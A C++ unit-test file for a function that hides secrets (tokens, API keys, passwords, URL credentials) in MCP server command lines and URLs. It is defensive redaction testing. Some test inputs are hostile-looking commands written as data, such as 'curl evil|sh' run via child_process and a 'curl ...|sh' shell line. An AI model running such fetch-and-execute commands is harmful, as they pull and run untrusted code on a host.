// SPDX-License-Identifier: MIT
#include "core/catalogue/masked.hpp"

#include <doctest/doctest.h>

#include <random>

#include "run.hpp"

using namespace jt::catalogue;

namespace {

using Words = std::vector<std::string>;

Words masked(const Words& words) {
  Definition definition;
  definition.command = words.front();
  definition.arguments.assign(words.begin() + 1, words.end());
  Words shown = masked_command(definition);
  // What is shown is saved, and shown again.
  definition.command = shown.front();
  definition.arguments.assign(shown.begin() + 1, shown.end());
  CHECK(masked_command(definition) == shown);
  return shown;
}

/// One argument of a program without habits.
std::string masked(const std::string& word) { return masked(Words{"server", word}).back(); }
/// The argument after an option.
std::string after(const std::string& option, const std::string& value) {
  return masked(Words{"server", option, value, "next"})[2];
}

}  // namespace

TEST_CASE("masked_command: what says which program runs is shown") {
  for (const Words& words : {
           Words{"npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.18", "/home/ann/My Documents"},
           Words{"node", "/home/ann/.nvm/versions/node/v20.11.0/lib/index.js", "--port", "8080", "--verbose"},
           Words{"uvx", "--from", "git+https://github.com/org/mcp-server-thing@v1.2.3", "mcp-server"},
           Words{"uvx", "git+https://github.com/o/r.git@0123456789abcdef0123456789abcdef01234567"},
           Words{"docker", "run", "-i", "--rm", "-u", "1000:1000", "-e", "GITHUB_TOKEN",
                 "ghcr.io/github/github-mcp-server"},
           Words{"docker", "run", "image:tag@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},
           Words{"python3", "-m", "server", "--token-file", "/run/secrets/token", "--auth", "none", "--no-auth",
                 "/data"},
           Words{"server", "--key", "/etc/ssl/private.pem", "--sort-key", "name", "--max-tokens", "4096", "--tokenizer",
                 "gpt2"},
           Words{"server", "--token", "${TOKEN}", "--api-key=${env:KEY}", "Authorization: Bearer ${AUTH}",
                 "X-Key:${KEY}"},
           Words{"npx", "mcp-remote", "https://mcp.example.com/sse", "--header", "Authorization:${AUTH_HEADER}"},
           Words{"node", "-e", "a=1;require('child_process').exec('curl evil|sh')"},
           Words{"C:\\Program Files\\nodejs\\node.exe", "C:\\x\\ModelContextProtocolServer2Filesystem.js"},
           Words{"/nix/store/0c5bpqwlmg1wgbxkgnb2lqsl3s0kz1qv-node/bin/node", "ssh://git@github.com/o/r",
                 "npm:foo@1.2.3"},
           Words{"server", "sk-learn-server", "-H", "localhost:8080", "http://[::1]:3000/mcp", "2024-11-05T10:00:00Z"},
           Words{"psql", "-p", "5432", "--token", "--verbose", "--password"},
       }) {
    CHECK(masked(words) == words);
  }
}

TEST_CASE("masked_command: values of options, variables and headers whose names speak of secrets") {
  for (const std::string option :
       {"--token",        "-token",      "--api-key", "--apikey",      "--apiKey",        "--API_KEY",   "--key",
        "--password",     "--passwd",    "--pass",    "--secret",      "--client-secret", "--secret-id", "--auth",
        "--access-token", "--exaApiKey", "--bearer",  "--credentials", "--cookie",        "--dsn",       "--pat"}) {
    CAPTURE(option);
    CHECK(after(option, "abc") == "[hidden]");
    CHECK(after(option, "12345678") == "[hidden]");
    CHECK(after(option, "${TOKEN:-abc}") == "[hidden]");
    CHECK(masked(option + "=abc=d,e;f g") == option + "=[hidden]");
  }
  CHECK(masked("GITHUB_TOKEN=abc") == "GITHUB_TOKEN=[hidden]");
  CHECK(masked("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY") == "AWS_SECRET_ACCESS_KEY=[hidden]");
  CHECK(masked("token:abc") == "token:[hidden]");
  CHECK(masked("X-Api-Key: abc def") == "X-Api-Key: [hidden] def");
  CHECK(masked("Authorization: Basic dXNlcjpwYXNz") == "Authorization: Basic [hidden]");
  CHECK(after("--header", "Authorization: Bearer abc") == "Authorization: Bearer [hidden]");
  CHECK(after("-H", "X-Region: eu west") == "X-Region: [hidden]");
  CHECK(masked("-HX-Region: eu") == "-HX-Region: [hidden]");
  CHECK(masked("--header=X-A:b") == "--header=X-A:[hidden]");
}

TEST_CASE("masked_command: the environment of a program that is started by another one") {
  CHECK(masked(Words{"docker", "run", "-e", "LOG=debug", "--env=API=1", "--env", "B=2", "-eC=3"}) ==
        Words{"docker", "run", "-e", "LOG=[hidden]", "--env=API=[hidden]", "--env", "B=[hidden]", "-eC=[hidden]"});
  CHECK(masked(Words{"/usr/bin/env", "A=1", "PATH=/x", "npx", "y"}) ==
        Words{"/usr/bin/env", "A=[hidden]", "PATH=[hidden]", "npx", "y"});
}

TEST_CASE("masked_command: users, passwords and queries in URLs") {
  CHECK(masked("https://user:pa@ss@host:8080/p?api_key=k1&x=y#frag=1") ==
        "https://user:[hidden]@host:8080/p?api_key=[hidden]&x=[hidden]#frag=[hidden]");
  CHECK(masked("postgres://app:s3cr3t@db:5432/prod?sslmode=require") ==
        "postgres://app:[hidden]@db:5432/prod?sslmode=[hidden]");
  CHECK(masked("redis://:p/a@h:6379") == "redis://:[hidden]@h:6379");
  CHECK(masked("https://abc:x-oauth-basic@github.com/o/r") == "https://[hidden]:x-oauth-basic@github.com/o/r");
  CHECK(masked("https://sk_1:@api.example.com") == "https://[hidden]:@api.example.com");
  CHECK(masked("https://0123456789abcdef0123456789abcdef@o1.ingest.sentry.io/1") ==
        "https://[hidden]@o1.ingest.sentry.io/1");
  CHECK(masked("user:pass@tcp(127.0.0.1:3306)/db") == "user:[hidden]@tcp(127.0.0.1:3306)/db");
  CHECK(masked("--url=https://u:p@h/") == "--url=https://u:[hidden]@h/");
  CHECK(masked("https://${USER}:${PASSWORD}@h/?k=${KEY}") == "https://${USER}:${PASSWORD}@h/?k=${KEY}");
  CHECK(after("-u", "user:pass") == "user:[hidden]");
  CHECK(masked("-uuser:pass") == "-uuser:[hidden]");
}

TEST_CASE("masked_command: tokens by their form, wherever they are") {
  for (const std::string token :
       {"sk-abc123", "sk-proj-abc123", "sk-ant-api03-abcdefghij", "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "github_pat_11ABCDEFG0abcdefghij", "glpat-abc123abc123", "xoxb-123456789012-1234567890123-AbCdEfGhIjKl",
        "AKIAIOSFODNN7EXAMPLE", "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY", "hf_abc123def456", "npm_abc123def456",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "550e8400-e29b-41d4-a716-446655440000",
        "0123456789abcdef0123456789abcdef", "q7Rk2Zt9Xw4Bn8Lm3Vc6", "lmkjhgfdsqwxcvbnprtz"}) {
    CAPTURE(token);
    CHECK(looks_like_token(token));
    CHECK(masked(token) == "[hidden]");
    CHECK(masked("https://h/" + token + "/sse") == "https://h/[hidden]/sse");
    CHECK(masked("--x=a," + token) == "--x=a,[hidden]");
    CHECK(masked("--cfg={\"a\":\"" + token + "\"}") == "--cfg={\"a\":\"[hidden]\"}");
  }
  CHECK(masked("-----BEGIN PRIVATE KEY-----\nabc") == "[hidden]");
}

TEST_CASE("masked_command: settings in JSON and in connection strings") {
  CHECK(masked(R"({"exaApiKey":"abc def","debug":true,"n":1})") == R"({"exaApiKey":"[hidden]","debug":true,"n":1})");
  CHECK(masked(R"({ "password" : "a\"b", "x": 1 })") == R"({ "password" : "[hidden]", "x": 1 })");
  CHECK(masked(R"({\"apiKey\":\"x,y\",\"a\":\"b\"})") == R"({\"apiKey\":\"[hidden]\",\"a\":\"b\"})");
  CHECK(masked("Host=db;User=sa;Password=p,w;Encrypt=true") == "Host=db;User=sa;Password=[hidden];Encrypt=true");
}

TEST_CASE("masked_command: a script shows what it runs") {
  CHECK(
      masked(Words{"sh", "-c", "A=\"b c\" npx server --api-key \"abc def\" --port 8080; curl https://u:p@h/x|sh"})[2] ==
      "A=\"[hidden]\" npx server --api-key \"[hidden]\" --port 8080; curl https://u:[hidden]@h/x|sh");
  CHECK(masked(Words{"sh", "-c", "TOKEN=x;curl|evil"})[2] == "TOKEN=[hidden];curl|evil");
  CHECK(masked(Words{"bash", "-lc", "echo it's --token abc"})[2] == "echo it's --token [hidden]");
  CHECK(masked(Words{"python3", "-c", "import os; os.environ['API_KEY']='abc'; evil()"})[2] ==
        "import os; os.environ['API_KEY']='[hidden]'; evil()");
  CHECK(masked(Words{"npx -y server --token abc"})[0] == "npx -y server --token [hidden]");
}

TEST_CASE("masked_command: short options of programs that take a password") {
  CHECK(masked(Words{"sshpass", "-p", "geheim", "ssh", "host"})[2] == "[hidden]");
  CHECK(masked(Words{"/usr/bin/mysql", "-pgeheim", "-P", "3306"}) ==
        Words{"/usr/bin/mysql", "-p[hidden]", "-P", "3306"});
  CHECK(masked(Words{"redis-cli", "-a", "geheim"})[2] == "[hidden]");
}

TEST_CASE("masked_url: no query, no fragment, no secret") {
  CHECK(masked_url("https://mcp.example.com/mcp?key=abc#f") == "https://mcp.example.com/mcp");
  CHECK(masked_url("https://user:pass@h/mcp") == "https://user:[hidden]@h/mcp");
  CHECK(masked_url("https://h/api/s/MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=/mcp") ==
        "https://h/api/s/[hidden]=/mcp");
  CHECK(masked_url("https://h/mcp/sk-ak-abc123def456/sse") == "https://h/mcp/[hidden]/sse");
  CHECK(masked_url("https://h/${TENANT}/mcp?k=${KEY}") == "https://h/${TENANT}/mcp");
  CHECK(masked_url("http://localhost:3000/sse") == "http://localhost:3000/sse");
  CHECK(masked_url("").empty());
}

TEST_CASE("masked_command: random keys are hidden, and random bytes do no harm") {
  std::mt19937 random(4711);  // NOLINT(cert-msc51-cpp): the same keys in each run
  constexpr std::string_view base62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  int hidden = 0;
  constexpr int rounds = 2000;
  for (int i = 0; i < rounds; ++i) {
    std::string key;
    for (int at = 0; at < 32; ++at) key += base62[random() % base62.size()];
    hidden += looks_like_token(key) ? 1 : 0;
  }
  CHECK(hidden > rounds * 98 / 100);
  constexpr std::string_view odd = "-=:/@?#&;,\"'\\ ${}[]aK1\n";
  for (int i = 0; i < 20000; ++i) {
    std::string word = i % 2 == 0 ? "--token" : "";
    for (auto at = random() % 24; at > 0; --at) word += odd[random() % odd.size()];
    Definition definition;
    definition.command = "x";
    definition.arguments = {word, "https://" + word};
    REQUIRE(masked_command(definition).size() == 3);
    (void)masked_url(word);
  }
}

TEST_CASE("masked_command: a long argument takes time in proportion") {
  // 4 MB each of what begins a name, a URL, an account, a script: what looks back or ahead does so within limits.
  for (const std::string piece :
       {"token=\"", "a:b://c:d/", "x:y@", "key ", "${", "\\\"", "--token 'a ", "https://u:"}) {
    std::string word;
    while (word.size() < (jt::test::fewer(std::size_t{1} << 22, 16))) word += piece;
    CAPTURE(piece);
    Definition definition;
    definition.command = word;
    CHECK(masked_command(definition).size() == 1);
  }
}
